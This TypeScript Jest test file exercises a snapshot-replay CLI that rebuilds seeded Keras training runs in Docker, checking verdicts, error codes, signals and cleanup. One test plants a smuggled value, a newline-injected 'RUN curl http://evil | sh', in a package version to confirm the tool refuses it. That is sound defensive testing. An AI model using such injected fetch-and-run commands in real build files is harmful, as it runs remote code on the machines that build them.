// snapshot replay on the real engine, along the user's path: capture a seeded Keras training on
// the host venv, commit the snapshot beside the code, clone the repository elsewhere, remove the
// original, and replay from the clone. Then every way a replay must say `different` or `error`.
// The image is built on the local Debian base from the loopback package index (no registry here).
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import YAML from 'yaml';
import { schemaProblems } from '../../src/adapters/json-schema.js';
import { runProcess } from '../../src/adapters/process.js';
import { cleanEnv, killStartedClis, repoRoot, runCli, startCli, tfPython } from '../helpers/cli.js';
import { dockerReady, servePackageIndex, TEST_BASE_IMAGE } from '../helpers/docker.js';
import { captureThenClone } from '../helpers/replay-fixture.js';

const ready = await dockerReady();
const describeDocker = ready ? describe : describe.skip;

/** Containers a replay left with its label: there must be none after it ends, however it ends. */
async function containersOf(replayId: string): Promise<string[]> {
  const listed = await runProcess('docker', ['ps', '-aq', '--filter', `label=dev.snapshot.replay=${replayId}`], { timeoutMs: 30_000 });
  return listed.stdout.split('\n').filter(Boolean);
}

/** Every container any replay of this snapshot made (the label every replay container carries). */
async function containersOfSnapshot(snapshotId: string): Promise<string[]> {
  const listed = await runProcess('docker', ['ps', '-aq', '--filter', 'label=dev.snapshot.managed=true', '--filter', `label=dev.snapshot.snapshot-id=${snapshotId}`], { timeoutMs: 30_000 });
  return listed.stdout.split('\n').filter(Boolean);
}

describeDocker('snapshot replay on a Docker engine', () => {
  let work: string;
  let clone: string;
  let index: Awaited<ReturnType<typeof servePackageIndex>>;
  let first: Awaited<ReturnType<typeof runCli>>;
  let snapshotId: string;
  /** Images of the other snapshots some tests capture, removed at the end. */
  const extraImages: string[] = [];
  const flags = () => ['--base-image', TEST_BASE_IMAGE, '--python-from', 'apt', '--build-arg', `PIP_INDEX_URL=${index.url}`, '--build-network', 'host'];
  const replay = (extra: string[], timeoutMs = 600_000) => runCli(['replay', 'snapshot.yaml', ...flags(), ...extra], { cwd: clone, env: cleanEnv(), timeoutMs });

  beforeAll(async () => {
    work = mkdtempSync(join(tmpdir(), 'snapshot-replay-'));
    ({ clone, snapshotId } = await captureThenClone(work));
    index = await servePackageIndex();
    first = await replay(['--json', '--junit', join(work, 'replay.xml'), '--markdown', join(work, 'replay.md')], 900_000);
  }, 1_200_000);

  afterAll(async () => {
    killStartedClis();
    await index?.close();
    for (const tag of [...(snapshotId ? [`snapshot-replay:${snapshotId.slice(0, 12)}`] : []), ...extraImages]) await runProcess('docker', ['image', 'rm', '-f', tag], { timeoutMs: 60_000 });
    rmSync(work, { recursive: true, force: true });
  });

  it('reproduces the baseline from a clone elsewhere, with no flag for the code: identical', async () => {
    expect(first.exitCode).toBe(0);
    const report = first.json.result;
    expect(report).toMatchObject({ verdict: 'identical', exit_code: 0, engine: { kind: 'docker' }, failure: null });
    expect(report.compare.summary).toMatchObject({ outputs: 4, identical: 4 });
    expect(report.folder.startsWith(join(clone, 'snapshot.replays'))).toBe(true);
    for (const file of ['replay.json', 'environment.yaml', 'logs/stdout.log', 'logs/stderr.log', 'outputs/metrics.json']) expect(existsSync(join(report.folder, file))).toBe(true);
    // The replay's environment, in the snapshot format, probed inside the image.
    const env = YAML.parse(readFileSync(join(report.folder, 'environment.yaml'), 'utf8'));
    expect(env.frameworks.tensorflow.version).toBe('2.21.0');
    expect(env.system.container.inside).toBe(true);
    expect(report.environment.facts).toMatchObject({ image_id: expect.stringMatching(/^sha256:/), base_image: TEST_BASE_IMAGE, base_digest: expect.stringMatching(/^sha256:/) });
    expect(report.run).toMatchObject({ command: expect.stringContaining('python train.py'), workdir: '/workspace/code', exit_code: 0 });
    expect(report.data.records).toEqual([expect.objectContaining({ path: 'data', status: 'verified', how: 'in the repository' })]);
    // The baseline's saved model, reloaded in a container of the image (mounted read-only), without retraining.
    expect(report.reload).toMatchObject({ status: 'checked', models: [{ path: 'model.keras', format: 'keras', status: 'identical' }] });
    // The reload's container is gone too.
    expect(await containersOf(report.id)).toEqual([]);
    // The shipped schema of replay's --json holds for the real thing.
    expect(schemaProblems(join(repoRoot, 'schemas', 'replay-report.schema.json'), report)).toEqual([]);
  });

  it('under --json prints only the envelope on stdout and only JSON lines on stderr, and writes the reports', () => {
    expect(() => JSON.parse(first.stdout)).not.toThrow();
    const lines = first.stderr.split('\n').filter(Boolean);
    expect(lines.length).toBeGreaterThan(5);
    for (const line of lines) expect(() => JSON.parse(line)).not.toThrow();
    expect(lines.map((l) => JSON.parse(l).type)).toEqual(expect.arrayContaining(['stage', 'build', 'log']));
    expect(readFileSync(join(work, 'replay.xml'), 'utf8')).toContain('<testsuite name="snapshot replay"');
    expect(readFileSync(join(work, 'replay.md'), 'utf8')).toMatch(/^## ✅ snapshot replay: identical/);
  });

  it('another seed through --env: different, with the tensors that differ named', async () => {
    const r = await replay(['--env', 'SEED=7', '--json']);
    expect(r.exitCode).toBe(1);
    expect(r.json.result.verdict).toBe('different');
    const model = r.json.result.compare.outputs.find((o: { path: string }) => o.path === 'model.weights.h5');
    expect(model.status).toBe('different');
    expect(model.tensors.some((t: { status: string }) => t.status === 'different')).toBe(true);
  });

  it('oneDNN turned on where the baseline had it off: different, and that variable named first', async () => {
    const r = await replay(['--env', 'TF_ENABLE_ONEDNN_OPTS=1', '--json']);
    expect(r.exitCode).toBe(1);
    expect(r.json.result.causes[0]).toMatchObject({ field: 'determinism.env.TF_ENABLE_ONEDNN_OPTS', severity: 'high' });
    expect(r.json.result.conclusion).toMatch(/^most likely cause: determinism\.env\.TF_ENABLE_ONEDNN_OPTS: 0 at capture, 1 in the replay/);
  });

  it('a data file changed after capture: error (7) naming it, and the training never ran', async () => {
    const file = readdirSync(join(clone, 'data')).sort()[0] as string;
    const path = join(clone, 'data', file);
    const original = readFileSync(path);
    writeFileSync(path, Buffer.concat([original, Buffer.from('\n')]));
    try {
      const r = await replay(['--json']);
      expect(r.exitCode).toBe(7);
      expect(r.json.result.failure).toMatchObject({ stage: 'verify-data', code: 'DATA_MISMATCH', message: expect.stringContaining(`${file} (changed)`) });
      expect(r.json.result.run).toBeNull();
    } finally {
      writeFileSync(path, original);
    }
  });

  it('a failing build step: error (6) with the step, the error and the tail of its log', async () => {
    // The Debian base has no python: with --python-from base the pip step fails.
    const r = await runCli(['replay', 'snapshot.yaml', '--base-image', TEST_BASE_IMAGE, '--python-from', 'base', '--build-arg', `PIP_INDEX_URL=${index.url}`, '--build-network', 'host', '--json'], { cwd: clone, env: cleanEnv(), timeoutMs: 600_000 });
    expect(r.exitCode).toBe(6);
    expect(r.json.result.failure).toMatchObject({ stage: 'prepare', code: 'BUILD_FAILED', message: expect.stringMatching(/^the image build failed at step \d+\/\d+ \(RUN python /) });
    expect(r.json.result.failure.log_tail.join('\n')).toMatch(/python: not found/);
  });

  it('a training that crashes: error (7) with its exit code and the tail of its log', async () => {
    const r = await replay(['--env', 'EPOCHS=many', '--json']);
    expect(r.exitCode).toBe(7);
    expect(r.json.result.failure).toMatchObject({ stage: 'run', code: 'RUN_FAILED', message: 'the training exited with code 2' });
    expect(r.json.result.failure.log_tail.join('\n')).toMatch(/invalid int value: 'many'/);
    expect(await containersOf(r.json.result.id)).toEqual([]);
  });

  it('--timeout: error (7), and no container left', async () => {
    const r = await replay(['--timeout', '1', '--json']);
    expect(r.exitCode).toBe(7);
    expect(r.json.result.failure).toMatchObject({ code: 'RUN_TIMEOUT' });
    expect(await containersOf(r.json.result.id)).toEqual([]);
  });

  it.each([
    ['SIGINT', 130],
    ['SIGTERM', 143],
  ] as const)('%s while the training runs: exit %i, no container with our labels, no replay folder', async (signal, code) => {
    const before = existsSync(join(clone, 'snapshot.replays')) ? readdirSync(join(clone, 'snapshot.replays')) : [];
    const cli = startCli(['replay', 'snapshot.yaml', ...flags(), '--env', 'EPOCHS=500'], { cwd: clone, env: cleanEnv() });
    await cli.stderrMatches(/Epoch 1\/500/);
    cli.signal(signal);
    const r = await cli.exited;
    expect(r.exitCode).toBe(code);
    expect(await containersOfSnapshot(snapshotId)).toEqual([]);
    expect(readdirSync(join(clone, 'snapshot.replays')).sort()).toEqual(before.sort());
  }, 600_000);

  it('files the training did not write are not its outputs: a committed copy of the baseline never makes identical', async () => {
    // A commit that holds stale/metrics.json, and a training that writes nothing: the baseline is
    // that committed file, and so is what the image holds in the outputs folder.
    const dir = join(work, 'machine-b', 'stale');
    execFileSync('git', ['clone', '-q', clone, dir]);
    mkdirSync(join(dir, 'stale'));
    writeFileSync(join(dir, 'stale', 'metrics.json'), '{"loss": 1.0}\n');
    execFileSync('git', ['-C', dir, '-c', 'user.email=t@example.com', '-c', 'user.name=t', 'add', 'stale']);
    execFileSync('git', ['-C', dir, '-c', 'user.email=t@example.com', '-c', 'user.name=t', 'commit', '-qm', 'outputs committed']);
    const captured = await runCli(['capture', '--python', tfPython, '--run', 'python -c "print(1)"', '--outputs', 'stale', '-o', 'stale.yaml', '--json'], { cwd: dir, env: cleanEnv({ PYTHONHASHSEED: '0', TF_ENABLE_ONEDNN_OPTS: '0' }), timeoutMs: 300_000 });
    expect(captured.exitCode).toBe(0);
    extraImages.push(`snapshot-replay:${String(captured.json.result.id).slice(0, 12)}`);
    const r = await runCli(['replay', 'stale.yaml', ...flags(), '--json'], { cwd: dir, env: cleanEnv(), timeoutMs: 600_000 });
    expect(r.exitCode).toBe(1);
    expect(r.json.result.compare.outputs).toEqual([expect.objectContaining({ path: 'metrics.json', status: 'missing' })]);
    expect(r.json.result.causes[0].message).toMatch(/^the training did not write metrics\.json: only the copies in the code at the captured commit were there/);
  });

  it('a GPU request on an engine without the NVIDIA runtime: the clear message, before anything is built', async () => {
    const r = await replay(['--gpus', 'all', '--json']);
    expect(r.exitCode).toBe(6);
    expect(r.json.result.failure).toMatchObject({ stage: 'doctor', message: expect.stringMatching(/no NVIDIA runtime.*install the NVIDIA Container Toolkit.*or pass --gpus none/) });
    expect(r.stderr).not.toMatch(/"type":"build"/);
  });

  it('a crafted snapshot is refused before anything is built', async () => {
    const doc = YAML.parse(readFileSync(join(clone, 'snapshot.yaml'), 'utf8'));
    doc.packages[0].version = '1.0\nRUN curl http://evil | sh';
    writeFileSync(join(clone, 'crafted.yaml'), YAML.stringify(doc));
    const r = await runCli(['replay', 'crafted.yaml', ...flags(), '--json'], { cwd: clone, env: cleanEnv(), timeoutMs: 120_000 });
    expect(r.exitCode).toBe(3);
    expect(r.json.error.code).toMatch(/^(UNSAFE_SNAPSHOT_VALUE|SNAPSHOT_INVALID)$/);
    expect(r.stderr).not.toMatch(/"type":"build"/);
    expect(existsSync(join(clone, 'crafted.replays'))).toBe(false);
  });

  it('snapshot build builds the same image from the cache; prune removes what the replays of this snapshot made, and only that', async () => {
    const built = await runCli(['build', 'snapshot.yaml', ...flags(), '--gpus', 'none', '--json'], { cwd: clone, env: cleanEnv(), timeoutMs: 600_000 });
    expect(built.exitCode).toBe(0);
    expect(built.json.result.facts.image_id).toBe(first.json.result.environment.facts.image_id);
    const listed = await runCli(['prune', '--snapshot-id', snapshotId, '--dry-run', '--json'], { cwd: clone, env: cleanEnv() });
    expect(listed.json.result).toMatchObject({ dryRun: true, containers: [] });
    expect(listed.json.result.images).toContain(first.json.result.environment.facts.image_id);
    const pruned = await runCli(['prune', '--snapshot-id', snapshotId, '--json'], { cwd: clone, env: cleanEnv() });
    expect(pruned.exitCode).toBe(0);
    const gone = await runProcess('docker', ['image', 'inspect', first.json.result.environment.facts.image_id], { timeoutMs: 30_000 });
    expect(gone.outcome).toBe('failed');
    // The base image, which is not ours, is still there.
    expect((await runProcess('docker', ['image', 'inspect', TEST_BASE_IMAGE], { timeoutMs: 30_000 })).outcome).toBe('ok');
  });
});
